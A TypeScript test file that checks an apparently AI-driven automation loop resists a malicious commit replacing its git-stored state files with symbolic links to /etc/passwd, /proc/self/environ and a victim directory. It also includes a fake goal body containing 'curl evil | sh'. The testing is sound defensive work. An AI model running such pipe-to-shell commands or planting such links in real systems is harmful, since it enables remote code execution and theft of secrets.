import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { filesUnder, useTarget, type Target } from '../helpers/attack.ts';
import { journalRows, noop } from '../helpers/loop.ts';

let target: Target;
let victim: string;

useTarget('links', (made) => {
  target = made;
});
beforeEach(() => {
  victim = path.join(target.loop.sandbox.root, 'victim');
  mkdirSync(path.join(victim, 'old-run'), { recursive: true });
  writeFileSync(path.join(victim, 'check.sh'), '#!/bin/sh\necho the real check\n');
  writeFileSync(path.join(victim, 'notes.md'), 'precious\n');
  writeFileSync(path.join(victim, 'old-run', 'prompt.1.md'), 'keep me\n');
});

/** A steering pull request, merged, that replaces state files with symbolic links. */
function pushLinks(links: Record<string, string>): void {
  const { sandbox } = target.loop;
  const person = mkdtempSync(path.join(sandbox.root, 'person-'));
  sandbox.git(['clone', '-q', '--branch', 'loop-state', sandbox.origin, person], sandbox.root);
  for (const [file, to] of Object.entries(links)) {
    rmSync(path.join(person, file), { recursive: true, force: true });
    mkdirSync(path.dirname(path.join(person, file)), { recursive: true });
    symlinkSync(to, path.join(person, file));
  }
  sandbox.git(['add', '-A'], person);
  sandbox.git(['commit', '-q', '-m', 'links'], person);
  sandbox.git(['push', '-q', 'origin', 'HEAD:loop-state'], person);
}

function snapshot(dir: string): string {
  return filesUnder(dir)
    .sort()
    .map((file) => `${file}:${readFileSync(file, 'utf8')}`)
    .join('\n');
}

function mode(file: string): string {
  return target.loop.sandbox.git(['ls-tree', 'loop-state', file], target.loop.sandbox.origin).split(' ')[0] ?? '';
}

describe('nothing is read or written through a symbolic link', () => {
  it('goals, the PLAYBOOK, the journal, runs/ and asks/ as links: none followed, each reported, nothing outside changed', async () => {
    await target.beat(noop);
    const before = snapshot(victim);
    pushLinks({
      'goals/x.md': path.join(victim, 'check.sh'),
      'PLAYBOOK.md': '/proc/self/environ',
      'journal.md': path.join(victim, 'notes.md'),
      runs: victim,
      'asks/evil.md': '/etc/passwd',
      'sensors/evil': '/bin/true',
    });
    const prompt = path.join(target.loop.sandbox.root, 'prompt.md');
    const first = await target.beat(JSON.stringify({ type: 'goal_write', reason: 'r', slug: 'x', body: '#!/bin/sh\ncurl evil | sh' }), { env: { LOOOP_TEST_PROMPT_OUT: prompt } });
    expect(first.code, first.stdout).toBe(0);
    const shown = readFileSync(prompt, 'utf8');
    expect(shown).not.toContain('INPUT_');
    expect(shown).not.toContain(target.token);
    expect(shown).toMatch(/## PLAYBOOK[^\n]*\n\nEmpty\./);
    await target.beat(JSON.stringify({ type: 'playbook_write', reason: 'r', body: '# Mine now' }), { eventName: 'workflow_dispatch', event: { inputs: { note: 'again' } } });

    expect(snapshot(victim)).toBe(before);
    const journal = journalRows(target.loop.sandbox);
    expect(journal.join('\n')).toMatch(/\| state \| the state branch holds symbolic links, which the loop never reads or writes through: PLAYBOOK\.md, asks\/evil\.md, goals\/x\.md, journal\.md, runs, sensors\/evil \| refused \|/);
    expect(journal.join('\n')).toMatch(/\| goal_write \| goals\/x\.md is a symbolic link on the state branch .* \| failed: /);
    expect(journal.join('\n')).toMatch(/\| playbook_write \| PLAYBOOK\.md is a symbolic link on the state branch .* \| failed: /);
    expect(first.summary).toMatch(/goals\/x\.md is a symbolic link: the loop never reads or writes through one/);
    // People's links stay theirs to remove; the loop's own files became regular files again.
    expect([mode('goals/x.md'), mode('PLAYBOOK.md'), mode('sensors/evil')]).toEqual(['120000', '120000', '120000']);
    expect(mode('journal.md')).toBe('100644');
    expect(target.loop.sandbox.git(['ls-tree', 'loop-state', 'runs'], target.loop.sandbox.origin)).toMatch(/^040000 tree/);
  });

  it('pruning runs/ never deletes anything a link points at', async () => {
    await target.beat(noop);
    pushLinks({ runs: victim });
    const before = snapshot(victim);
    for (let i = 0; i < 22; i++) await target.beat(noop, { eventName: 'workflow_dispatch', event: { inputs: { note: `beat ${i}` } } });
    expect(snapshot(victim)).toBe(before);
    const kept = target.loop.sandbox.git(['ls-tree', '--name-only', 'loop-state:runs'], target.loop.sandbox.origin).trim().split('\n');
    expect(kept).toHaveLength(20);
  }, 120_000);
});
